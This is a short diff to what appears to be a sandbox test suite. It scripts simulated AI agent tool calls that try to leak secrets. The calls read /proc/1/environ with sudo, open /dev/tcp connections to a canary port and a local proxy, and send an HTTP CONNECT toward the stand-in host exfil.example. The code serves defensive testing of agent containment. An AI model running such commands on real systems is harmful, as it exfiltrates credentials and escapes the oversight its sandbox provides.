@@ -59,7 +59,7 @@ describeWithSandbox("the agent's attacks through the bundled Action", () => {
       shell("sudo -n cat /proc/1/environ 2>&1 | base64 -w0 > leak-sudo.txt; echo"),
       shell(`(exec 3<>/dev/tcp/127.0.0.1/${canaryPort} && cat <&3) > leak-canary.txt 2>&1; echo`),
       shell(
-        "node -e \"fetch('https://exfil.example/x').then(r => console.log(r.status), e => console.log(String(e.cause ?? e)))\" > leak-proxy.txt 2>&1; echo",
+        "exec 3<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT exfil.example:443 HTTP/1.1\\r\\n\\r\\n' >&3; head -c 12 <&3 > leak-proxy.txt; echo",
       ),
       reply(call("finish", { summary: "Done." })),
     ]);
